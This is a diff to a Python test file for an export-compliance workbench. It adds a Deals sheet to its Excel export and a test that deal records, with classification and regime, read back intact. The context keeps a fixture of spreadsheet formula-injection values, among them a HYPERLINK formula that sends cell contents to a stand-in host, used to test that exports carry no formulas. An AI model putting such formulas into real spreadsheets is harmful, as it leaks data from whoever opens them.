@@ -19,7 +19,7 @@ from workbench.services.reports import Cancelled, export_workbook
 from workbench.store import audit
 from workbench.store.products import all_products
 
-SHEETS = ["Catalog", "Determinations", "Comparison", "Letters", "Sources", "About"]
+SHEETS = ["Catalog", "Determinations", "Comparison", "Letters", "Deals", "Sources", "About"]
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.invalid/?"&A1,"click")',
     "vendor": "+1+1",
@@ -225,3 +225,40 @@ def test_a_broken_audit_chain_is_refused_before_anything_is_written(catalog, lib
     with pytest.raises(CatalogNotTrustworthy, match=f"broken at entry {seq}"):
         export_workbook(catalog, library, tmp_path / "e.xlsx")
     assert not (tmp_path / "e.xlsx").exists() and not catalog.in_transaction
+
+
+def test_deals_sheet_reads_back_through_the_deals_import(catalog, library, tmp_path):
+    from datetime import datetime
+
+    from workbench.io.deals_xlsx import parse_deals
+    from workbench.services.deals import DealService
+
+    service = DealService(catalog, library)
+    source = tmp_path / "deals.xlsx"
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(["deal_ref", "deal_date", "exporter", "consignee_name", "consignee_country", "end_user_name",
+               "end_user_country", "destination", "authorization", "status", "part_number", "quantity", "unit_value_usd"])
+    ws.append(["D-1", datetime(2025, 6, 2), "Acme Exports Inc", "KL DC", "MY", "KL DC", "MY", "MY", "LPP", "shipped",
+               H100, 10, 25000.5])
+    wb.save(source)
+    parsed = parse_deals(source, library.countries, set(service.specs()))
+    assert parsed.errors == []
+    service.save_many(parsed.deals)
+
+    out = tmp_path / "export.xlsx"
+    export_workbook(catalog, library, out, ["us-ear-2023-10", "us-enforced-2025-05"], "MY")
+    assert _formulas(out) == []
+    wb = openpyxl.load_workbook(out)
+    deals = wb["Deals"]
+    header = [c.value for c in deals[1]]
+    row = dict(zip(header, (c.value for c in deals[2])))
+    assert row["deal_ref"] == "D-1"
+    assert row["regime"] == "us-enforced-2025-05" and row["classification"] == "3A090.a.1"
+    assert row["line_tpp_total"] == "158320"
+    assert deals.cell(2, header.index("deal_date") + 1).number_format == "yyyy-mm-dd"
+    about = {r[0].value: r[1].value for r in wb["About"].iter_rows(min_row=2)}
+    assert about["deals_regime"] == "us-enforced-2025-05"
+    again = parse_deals(out, library.countries, set(service.specs()), sheet="Deals")
+    assert again.errors == []
+    assert [d.model_dump(exclude={"id"}) for d in again.deals] == [d.model_dump(exclude={"id"}) for d in service.deals()]
